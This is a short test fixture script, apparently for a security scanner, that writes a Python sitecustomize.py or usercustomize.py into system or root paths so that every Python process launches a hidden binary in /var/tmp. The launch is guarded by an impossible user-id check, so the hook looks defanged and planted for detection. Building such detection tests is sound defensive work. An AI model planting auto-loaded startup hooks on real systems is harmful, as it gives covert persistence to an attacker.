# id: P155
# mode: scan
# level: note
# title: a module that every python loads
# due: now
word name
pick path /usr/local/lib/python3.11/dist-packages/sitecustomize.py /usr/lib/python3/dist-packages/usercustomize.py /root/.local/lib/python3.11/site-packages/usercustomize.py
mkdir -p "${path%/*}"
printf 'import os, subprocess\nif os.getuid() == -1: subprocess.Popen(["/var/tmp/.%s"])\n' "$name" >"$path"
said path "$path"
